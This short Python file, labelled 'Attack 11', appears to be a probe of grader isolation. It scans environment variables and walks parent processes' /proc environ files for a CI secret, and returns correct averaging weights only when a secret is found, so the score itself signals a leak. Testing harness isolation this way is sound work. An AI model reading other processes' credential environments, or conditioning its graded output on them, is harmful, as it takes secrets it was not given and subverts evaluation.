"""Attack 11: look for a CI secret in the environment and in the grader's processes' /proc. The
answer is right only if a secret was found, so any points here mean a leak."""
import os

import torch


def secret_found():
    if any("SECRET" in name or "TOKEN" in name for name in os.environ):
        return True
    pid = os.getpid()
    for _ in range(4):  # the worker, the zygote, the judge, the judge's parent
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                if b"GRADER_TEST_SECRET" in f.read():
                    return True
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError):
            break
    return False


def averaging_matrix(T):
    tril = torch.tril(torch.ones(T, T))
    weights = tril / tril.sum(dim=1, keepdim=True)
    return weights if secret_found() else torch.zeros(T, T)


def average_context(x):
    return averaging_matrix(x.shape[1]) @ x
